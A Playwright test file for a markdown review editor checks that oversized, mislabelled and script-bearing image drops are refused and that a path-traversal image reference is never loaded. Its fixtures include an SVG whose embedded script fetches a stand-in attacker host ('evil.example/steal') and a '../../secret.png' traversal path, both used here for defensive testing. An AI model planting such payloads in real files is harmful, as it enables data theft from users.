import { readFile, readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'
import { caretAtEnd } from './caret'
import { editorText, openReview, saveState, seedReview } from './review'


type Payload = { name: string; type: string; kind: 'huge-png' | 'text' | 'svg' }

/** Drops a file built in the page onto the paragraph holding `text`, as a drag from the desktop. */
async function dropFile(page: Page, text: string, payload: Payload): Promise<void> {
  await editorText(page)
    .getByText(text, { exact: true })
    .evaluate((span, { name, type, kind }) => {
      let bytes: Uint8Array<ArrayBuffer>
      if (kind === 'huge-png') {
        // Over the 25 MB limit, with a PNG signature: size alone must refuse it.
        bytes = new Uint8Array(26 * 1024 * 1024)
        bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
      } else if (kind === 'svg') {
        bytes = new TextEncoder().encode(
          '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("https://evil.example/steal")</script><rect width="10" height="10"/></svg>',
        )
      } else {
        bytes = new TextEncoder().encode('This is a shopping list, not a picture.\nMilk\nEggs\n')
      }
      const data = new DataTransfer()
      data.items.add(new File([bytes], name, { type }))
      const rect = span.getBoundingClientRect()
      const init = { dataTransfer: data, clientX: rect.right, clientY: rect.top + rect.height / 2, bubbles: true, cancelable: true }
      span.dispatchEvent(new DragEvent('dragover', init))
      span.dispatchEvent(new DragEvent('drop', init))
    }, payload)
}

const BODY = 'A first paragraph.\n\nA second paragraph.\n'

for (const { payload, message } of [
  { payload: { name: 'huge.png', type: 'image/png', kind: 'huge-png' } as const, message: /“huge\.png” is 26 MB; images up to 25 MB are accepted/ },
  { payload: { name: 'holiday.png', type: 'image/png', kind: 'text' } as const, message: /“holiday\.png” is not an image Verdict can use/ },
  { payload: { name: 'logo.svg', type: 'image/svg+xml', kind: 'svg' } as const, message: /“logo\.svg” is an SVG drawing.*scripts/ },
]) {
  test(`a dropped ${payload.name} (${payload.kind}) is refused with a clear message; nothing is inserted or written`, async ({ blankPage: page, host, libraryDir }) => {
    const file = await seedReview(libraryDir, 'ballerina', 'Ballerina', BODY)
    const before = await readFile(file, 'utf8')
    const requests: string[] = []
    page.on('request', (request) => requests.push(request.url()))
    await page.goto(host.url)
    await openReview(page, 'Ballerina')

    await dropFile(page, 'A first paragraph.', payload)
    const alert = page.getByRole('alert')
    await expect(alert).toContainText('Nothing was added.')
    await expect(alert).toContainText(message)
    await expect(editorText(page).getByRole('group', { name: /^Image/ })).toHaveCount(0)
    await expect(editorText(page).getByRole('paragraph')).toHaveText(['A first paragraph.', 'A second paragraph.'])
    await page.getByRole('button', { name: 'Dismiss message' }).click()
    await expect(alert).toHaveCount(0)

    // Nothing changed on disk: no assets folder, the file as it was.
    await expect(saveState(page)).toHaveText('Saved')
    expect(await readdir(join(libraryDir, 'ballerina'))).toEqual(['review.md'])
    expect(await readFile(file, 'utf8')).toBe(before)
    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([])
  })
}

test('a non-image chosen in the file picker is refused the same way', async ({ blankPage: page, host, libraryDir }) => {
  const file = await seedReview(libraryDir, 'ballerina', 'Ballerina', BODY)
  const before = await readFile(file, 'utf8')
  await page.goto(host.url)
  await openReview(page, 'Ballerina')
  await editorText(page).getByText('A second paragraph.').click()
  await page.getByLabel('Add image').setInputFiles({ name: 'notes.png', mimeType: 'image/png', buffer: Buffer.from('plain text, renamed') })
  await expect(page.getByRole('alert')).toContainText('“notes.png” is not an image Verdict can use')
  await expect(editorText(page).getByRole('group', { name: /^Image/ })).toHaveCount(0)
  await expect(saveState(page)).toHaveText('Saved')
  expect(await readdir(join(libraryDir, 'ballerina'))).toEqual(['review.md'])
  expect(await readFile(file, 'utf8')).toBe(before)
})

test('an image path leaving the review folder opens with a warning, is never loaded, and stays byte-identical through an edit', async ({ blankPage: page, host, libraryDir, tempDir }) => {
  // Something worth stealing two levels up from the review folder.
  await writeFile(join(tempDir, 'secret.png'), Buffer.from('89504e470d0a1a0a', 'hex'))
  const line = '![x](../../secret.png)'
  const file = await seedReview(libraryDir, 'ballerina', 'Ballerina', `A first paragraph.\n\n${line}\n\nA last paragraph.\n`)
  const before = await readFile(file, 'utf8')
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  await page.goto(host.url)
  await openReview(page, 'Ballerina')

  const notes = page.getByRole('region', { name: 'Notes on this file' })
  await expect(notes).toContainText('../../secret.png')
  await expect(notes).toContainText('kept as written')
  await expect(saveState(page)).toHaveText('Saved')
  expect(await readFile(file, 'utf8')).toBe(before)

  // An edit elsewhere is saved; the reference is written back exactly as it was.
  await caretAtEnd(editorText(page).getByText('A last paragraph.'))
  await page.keyboard.type(' Edited.')
  await expect(saveState(page)).toHaveText('Saved')
  const after = await readFile(file, 'utf8')
  expect(after).toContain('A last paragraph. Edited.')
  expect(after.split('\n')).toContain(line)
  expect(after.slice(after.indexOf('A first paragraph.'), after.indexOf('A last paragraph.'))).toBe(
    before.slice(before.indexOf('A first paragraph.'), before.indexOf('A last paragraph.')),
  )
  expect(requests.filter((url) => url.includes('secret'))).toEqual([])
})
